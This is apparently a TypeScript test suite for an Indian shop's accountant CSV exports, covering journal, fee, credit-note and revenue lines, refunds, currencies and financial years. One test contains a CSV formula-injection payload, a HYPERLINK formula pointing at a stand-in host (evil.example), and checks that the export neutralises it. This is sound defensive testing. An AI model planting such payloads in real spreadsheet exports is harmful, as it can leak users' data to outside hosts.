import { sql } from 'kysely';
import { dayInIndia, financialYearOf, toPaise } from '@shop/shared/contract';
import type { AccountYears } from '@shop/shared/contract/admin';
import { transact } from '../../src/db/transact';
import { insertPayment, insertRefund } from '../../src/ledger/entries/queries';
import { monthsOfYear } from '../../src/reports/accounts/periods';
import { giveBack, receive } from '../support/orders/money';
import { orderCalls } from '../support/orders/orders';
import { numberOf } from '../support/orders/receipts';
import { adminCalls } from '../support/team/admin';
import { openShopWithStaff, type ShopWithStaff } from '../support/team/shopWithStaff';

const now = new Date('2026-11-23T06:00:00Z');
let shop: ShopWithStaff;
beforeAll(async () => {
  shop = await openShopWithStaff({ clock: () => now });
});
beforeEach(() => shop.changeCustomer());
afterAll(() => shop.close());

const { placeUntil, read: readOrder } = orderCalls(() => shop.context());
const { read, audited } = adminCalls(() => shop.context());

const download = (file: string, year: number | string) =>
  shop.app.inject({
    url: `/api/admin/reports/accounts/${file}?year=${year}`,
    headers: { authorization: `Bearer ${shop.staffToken}` },
  });
/** Returns the lines of a file with this text. */
const linesWith = async (file: string, year: number, text: string) => {
  const { body } = await download(`${file}.csv`, year);
  return body.split('\r\n').filter((line) => line.includes(text));
};

describe('the files for an accountant', () => {
  it('[MY-04] begin with a byte order mark and their columns', async () => {
    const { statusCode, headers, body } = await download('journal.csv', 2030);

    expect(statusCode).toBe(200);
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="journal-2030-31.csv"',
      'cache-control': 'private, no-store',
    });
    expect(body).toBe(
      '\uFEFFDate,Entry,Method,Reference,Orders,Amount,Currency,Fee with GST,GST in fee,Recorded by\r\n',
    );
    expect((await audited('journal-2030-31.csv'))[0]).toMatchObject({ action: 'report.exported' });
  });

  it('[MY-04] have payments, mistakes and refunds on their days', async () => {
    const { order_id, order_number, total_amount } = await placeUntil('dispatched');
    const fee = {
      fee_paise: toPaise(33.04),
      tax_paise: toPaise(5.04),
      provider_order_id: 'order_14chars',
    };
    const reference = `pay_${order_number}`;
    const paid = { method: 'razorpay', reference, received_on: '2027-03-31', ...fee } as const;
    await receive(shop.db, order_id, total_amount, paid);
    await transact(shop.db, (trx) =>
      giveBack(trx, order_id, 200.55, { refunded_on: '2027-04-01', method: 'razorpay' }),
    );

    expect(await linesWith('journal', 2026, order_number)).toEqual([
      `2027-03-31,Payment,Razorpay,${reference},${order_number},7300,INR,33.04,5.04,`,
    ]);
    expect(await linesWith('journal', 2027, order_number)).toEqual([
      `2027-04-01,Refund,Razorpay,,${order_number},-200.55,INR,,,`,
    ]);
    expect(await linesWith('fees', 2026, order_number)).toEqual([
      `2027-03-31,Razorpay,${reference},order_14chars,${order_number},7300,33.04,5.04,7266.96`,
    ]);
    const { receipt, credit_notes = [] } = (await readOrder(order_id)).body;
    const [line] = await linesWith('credit-notes', 2026, order_number);
    expect(line).toContain(`${credit_notes[0]?.credit_note_number},`);
    expect(line).toContain(`,${receipt?.receipt_number},2026-11-23,${order_number},`);
    expect(line).toContain(',200.55,200.55');
  });

  it('[MY-04] have a refund in the currency of its payment', async () => {
    const reference = 'pay_Dollars47';
    await transact(shop.db, async (trx) => {
      const dollars = { amount_paise: toPaise(17), currency: 'USD', method: 'razorpay' } as const;
      const payment_id = await insertPayment(trx, { ...dollars, reference, actor: 'system' });
      await insertRefund(trx, {
        payment_id: payment_id ?? null,
        amount_paise: toPaise(17),
        method: 'razorpay',
        reference: 'rfnd_Dollars47',
        state: 'processed',
        actor: 'system',
      });
    });

    const year = financialYearOf(dayInIndia(new Date()));
    expect(await linesWith('journal', year, 'rfnd_Dollars47')).toEqual([
      expect.stringContaining('Refund,Razorpay,rfnd_Dollars47,,-17,USD'),
    ]);
  });

  it('[MY-04] have no revenue of an unpaid order, and count it when it is paid', async () => {
    const order = await placeUntil('dispatched');
    expect(await linesWith('revenue', 2026, order.order_number)).toEqual([]);

    await receive(shop.db, order.order_id, 7_000, { received_on: '2026-12-01' });
    await receive(shop.db, order.order_id, 1_000, { received_on: '2027-04-02' });

    const row = `Sale,${numberOf(order)},${order.order_number},Himachal Pradesh`;
    expect(await linesWith('revenue', 2026, order.order_number)).toEqual([
      `2026-12-01,${row},7000`,
    ]);
    // Only ₹300 of ₹1,000 were owed.
    expect(await linesWith('revenue', 2027, order.order_number)).toEqual([`2027-04-02,${row},300`]);
  });

  it('[MY-04] make no formula of a reference', async () => {
    const order = await placeUntil('dispatched');
    const reference = `=HYPERLINK("https://evil.example/${order.order_number}")`;

    await receive(shop.db, order.order_id, 1, { reference, received_on: '2027-01-01' });

    const [line] = await linesWith('journal', 2026, order.order_number);
    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/${order.order_number}"")"`);
  });

  it('[MY-04] name whoever has recorded a payment, and all orders that it paid', async () => {
    const first = await placeUntil('dispatched');
    const second = await placeUntil('dispatched');
    const { user_id: staff_id } = await shop.db
      .selectFrom('users')
      .select('user_id')
      .where('role', '=', 'owner')
      .executeTakeFirstOrThrow();
    const paymentId = await receive(shop.db, first.order_id, 7_300, {
      amount_paise: toPaise(14_600),
      received_on: '2027-01-02',
      staff_id,
    });
    await sql`insert into payment_allocations (payment_id, order_id, amount_paise, actor)
      values (${paymentId}, ${second.order_id}, 730000, 'shop')`.execute(shop.db);

    const [line] = await linesWith('journal', 2026, first.order_number);
    expect(line).toContain([first.order_number, second.order_number].sort().join(' '));
    expect(line).toMatch(/,14600,INR,,,\S/);
  });

  it('[MY-04] are offered from the first year with money to this one', async () => {
    const order = await placeUntil('dispatched');
    await receive(shop.db, order.order_id, 1, { received_on: '2025-03-31' });

    expect((await read<AccountYears>('/reports/accounts')).body.years).toEqual([2026, 2025, 2024]);
  });

  it.each([
    ['journal.csv', '26', 422],
    ['journal.csv', 'last', 422],
    ['journal.csv', '', 422],
    ['journal', '2026', 404],
    ['customers.csv', '2026', 404],
  ])('[MY-04] are refused for %s of %s', async (file, year, status) => {
    expect((await download(file, year)).statusCode).toBe(status);
  });
});

it('[MY-04] a financial year has the months from April to March', () => {
  const months = monthsOfYear(2027);

  expect(months).toHaveLength(12);
  expect(months[0]).toEqual({ from: '2027-04-01', to: '2027-04-30' });
  expect(months[10]).toEqual({ from: '2028-02-01', to: '2028-02-29' });
  expect(months[11]).toEqual({ from: '2028-03-01', to: '2028-03-31' });
});
